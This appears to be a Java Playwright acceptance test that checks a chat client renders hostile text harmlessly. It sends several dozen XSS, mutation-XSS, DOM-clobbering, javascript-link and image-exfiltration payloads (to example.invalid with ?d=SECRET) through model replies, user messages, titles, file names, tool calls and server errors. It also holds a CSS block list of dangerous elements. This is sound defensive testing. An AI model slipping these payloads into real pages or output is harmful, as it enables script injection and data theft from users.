package puna.acceptance.page;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.FileChooser;
import com.microsoft.playwright.options.FilePayload;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import puna.json.Json;
import puna.json.JsonValue.JsonString;

/// Whatever a model, a file, a tool or the server writes: nothing of it runs, nothing is fetched,
/// and no element of it stands outside of its message.
@Timeout(900)
class HostileTextTest {
  /// What must not be there, wherever the text came from.
  private static final String HARMFUL =
      "script, img, iframe, object, embed, style, link, base, form:not(.results), input, svg:not(.icon),"
          + " video, audio, meta, [style*=url], [onerror], [onload], [onclick], [id=title] [id=title]";

  private static final List<String> TEXTS =
      List.of(
          "<img src=x onerror=\"window.broken = true\">",
          "<svg/onload=\"window.broken = true\">",
          "<script>window.broken = true</script>",
          "[x](javascript:window.broken=true)",
          "[x](  java\nscript:window.broken=true)",
          "[x](&#106;avascript:window.broken=true)",
          "<a href=\"&#106;avascript:window.broken=true\">x</a>",
          "[x](data:text/html,<script>window.broken=true</script>)",
          "[x](vbscript:window.broken=true)",
          "![x](https://example.invalid/?d=SECRET)",
          "![x][y]\n\n[y]: https://example.invalid/?d=SECRET",
          "![x](javascript:window.broken=true)",
          "![\"onerror=window.broken=true //](https://example.invalid/a.png)",
          "<https://example.invalid/\"onmouseover=\"window.broken=true>",
          "https://example.invalid/\"onmouseover=\"window.broken=true",
          "<iframe srcdoc=\"<script>parent.broken = true</script>\"></iframe>",
          "<style>@import url(https://example.invalid/a.css);</style>",
          "<link rel=stylesheet href=https://example.invalid/a.css>",
          "<base href=\"https://example.invalid/\">",
          "<form action=\"https://example.invalid/\"><button>x</button></form>",
          "<meta http-equiv=refresh content=\"0;url=https://example.invalid/\">",
          "<div id=title onclick=\"window.broken=true\">x</div>",
          "</div></article></li></ol><h1 id=out>outside</h1>",
          "```html\n<img src=x onerror=\"window.broken=true\">\n```",
          "```\"onmouseover=\"window.broken=true\nx\n```",
          "```\n<img src=x onerror=\"window.broken=true\">\nnever closed",
          "`<img src=x onerror=window.broken=true>`",
          "| a | b |\n|---|:-:|\n| <img src=x onerror=window.broken=true> | [x](javascript:window.broken=true) |",
          "$\\href{javascript:window.broken=true}{x}$",
          "$\\url{javascript:window.broken=true}$ $\\includegraphics{https://example.invalid/a.png}$",
          "$$\n\\htmlData{x=y}{x} \\htmlStyle{background:url(https://example.invalid)}{x} <img src=x"
              + " onerror=window.broken=true>\n$$",
          "$</annotation></semantics></math><img src=x onerror=window.broken=true>$",
          "<math><mtext><table><mglyph><style><img src=x onerror=window.broken=true>",
          "<svg><style><img src=x onerror=window.broken=true></style></svg>",
          "<noscript><p title=\"</noscript><img src=x onerror=window.broken=true>\">",
          "<a name=getElementById></a><form name=body><input name=firstChild></form>",
          "<!--<img src=\"--><img src=x onerror=window.broken=true>\">",
          "&lt;img src=x onerror=window.broken=true&gt;",
          "<x contenteditable autofocus onfocus=window.broken=true>",
          "<details open ontoggle=window.broken=true>",
          "\u202egpj.exe <b>x</b>\u202c",
          "{\"a\": \"<img src=x onerror=window.broken=true>\"}",
          "constructor __proto__ toString",
          ">".repeat(100_000),
          "*".repeat(100_000),
          "[".repeat(50_000),
          "`".repeat(20_001),
          "$".repeat(20_001),
          "- ".repeat(20_000) + "x",
          "![".repeat(20_000),
          "<".repeat(50_000),
          "|".repeat(20_000) + "\n" + "|-".repeat(10_000));

  private static Chromium chromium;
  private static ScriptedServer server;

  private ChatTab tab;

  @BeforeAll
  static void start() {
    chromium = Chromium.start();
    server = new ScriptedServer();
  }

  @AfterAll
  static void stop() {
    if (chromium != null) {
      chromium.close();
      server.close();
    }
  }

  @BeforeEach
  void open() {
    tab = new ChatTab(chromium.open(server.address(), Chromium.desk()));
  }

  private void expectHarmless(String text) {
    assertThat(tab.run("() => window.broken === true")).as(text).isEqualTo(false);
    assertThat(
            tab.run(
                "() => [...document.querySelectorAll('#messages, #conversations, #files, #toast, #title,"
                    + " #banner')].reduce((sum, box) => sum + box.querySelectorAll(`"
                    + HARMFUL
                    + "`).length, 0)"))
        .as(text)
        .isEqualTo(0);
    assertThat(
            tab.run(
                "() => [...document.links].filter(a => a.id !== '' || !/^(https?:|mailto:)/.test(a.href))"
                    + ".filter(a => !a.classList.contains('skip')).length"))
        .as(text)
        .isEqualTo(0);
    assertThat(tab.run("() => document.querySelectorAll('#title').length")).isEqualTo(1);
    assertThat(tab.run("() => document.getElementById('out') === null")).isEqualTo(true);
  }

  private void expectQuiet() {
    assertThat(chromium.foreign()).isEmpty();
    // KaTeX and the parser say of text what they will; nothing may be thrown, blocked or asked
    assertThat(chromium.faults()).isEmpty();
  }

  /// Pieces as a model gives them: anywhere cut.
  private static String[] pieces(String text, Random random) {
    List<String> pieces = new ArrayList<>();
    int most = Math.max(6, text.length() / 40);
    for (int at = 0; at < text.length(); ) {
      int end = Math.min(text.length(), at + 1 + random.nextInt(most));
      pieces.add(text.substring(at, end));
      at = end;
    }
    return pieces.toArray(String[]::new);
  }

  @Test
  void ofAModel() {
    Random random = new Random(42);
    for (int i = 0; i < TEXTS.size(); i++) {
      String text = TEXTS.get(i);
      server.next(ScriptedServer.text(pieces(text + "\n\nend " + i, random)));
      tab.send("Text " + i);
      tab.expectCount(2 * i + 2);
      tab.awaitEnd();
      expectHarmless(text);
    }
    tab.page().mouse().move(400, 300);
    tab.page().reload();
    tab.expectCount(2 * TEXTS.size());
    for (int i = 0; i < TEXTS.size(); i++) { // each is rendered again, whole, when it is seen
      tab.message(2 * i + 1).scrollIntoViewIfNeeded();
    }
    expectHarmless("all of them, read again");
    expectQuiet();
  }

  @Test
  void ofTheUser() {
    String all = String.join("\n\n", TEXTS.subList(0, 42));
    tab.send(TEXTS.get(0) + all);
    tab.awaitEnd();
    expectHarmless("as a message and a title");
    tab.page().locator("#conversations li").hover();
    tab.page().locator("#conversations [data-action=rename]").click();
    tab.page().getByLabel("Title of the conversation").fill(TEXTS.get(0) + TEXTS.get(1));
    tab.page().keyboard().press("Enter");
    assertThat(tab.page().locator("#title")).hasText(TEXTS.get(0) + TEXTS.get(1));
    expectHarmless("as a title");
    expectQuiet();
  }

  @Test
  void ofNamesOfFiles() {
    FileChooser chooser =
        tab.page().waitForFileChooser(() -> tab.button("Attach text files").click());
    byte[] text = "<img src=x onerror=window.broken=true>".getBytes(StandardCharsets.UTF_8);
    chooser.setFiles(
        new FilePayload[] {
          new FilePayload("<img src=x onerror=window.broken=true>.txt", "text/plain", text),
          new FilePayload("\u202etxt.exe", "text/plain", text)
        });
    assertThat(tab.page().locator("#files li")).hasCount(2);
    expectHarmless("as a file's name");
    tab.send("Look.");
    tab.awaitEnd();
    expectHarmless("as a file of a message");
    assertThat(tab.message(0).innerText()).doesNotContain("\u202e");
    expectQuiet();
  }

  @Test
  void ofToolsAndOfTheServer() {
    String hostile = "<img src=x onerror=window.broken=true>";
    String json = Json.write(new JsonString(hostile));
    server.next(
        ScriptedServer.events(
            List.of(
                "{\"tool_calls\": [{\"index\": 0, \"id\": %s, \"function\": {\"name\": %s, \"arguments\": %s}}]}"
                    .formatted(json, json, json)),
            "tool_calls"),
        ScriptedServer.refusal(400, "{\"error\": {\"message\": %s}}".formatted(json)),
        ScriptedServer.refusal(502, hostile),
        ScriptedServer.events(List.of("{\"reasoning_content\": %s}".formatted(json)), "stop"));
    tab.send("Call.");
    tab.expect(1, "Calls");
    expectHarmless("as a tool");
    tab.page().locator(".results textarea").fill(hostile);
    tab.button("Send results").click();
    tab.expect(3, hostile);
    expectHarmless("as an error and a result");
    tab.button("Try again").click();
    tab.expect(3, hostile);
    expectHarmless("as a proxy's page");
    tab.button("Try again").click();
    tab.expect(3, "Thought for");
    expectHarmless("as reasoning");
    expectQuiet();
  }

  @Test
  void linksAreShownAndNotFollowed() {
    server.next(
        ScriptedServer.text(
            "See [the site](https://example.invalid/a?b=c) and ![a llama](https://example.invalid/l.png)."));
    tab.send("Where?");
    tab.awaitEnd();
    tab.expect(1, "the site (https://example.invalid/a?b=c)");
    tab.expect(1, "a llama (https://example.invalid/l.png)");
    assertThat(tab.message(1).locator("a").first()).hasAttribute("rel", "noopener noreferrer");
    assertThat(tab.message(1).locator("a").first()).hasAttribute("target", "_blank");
    expectQuiet();
  }
}
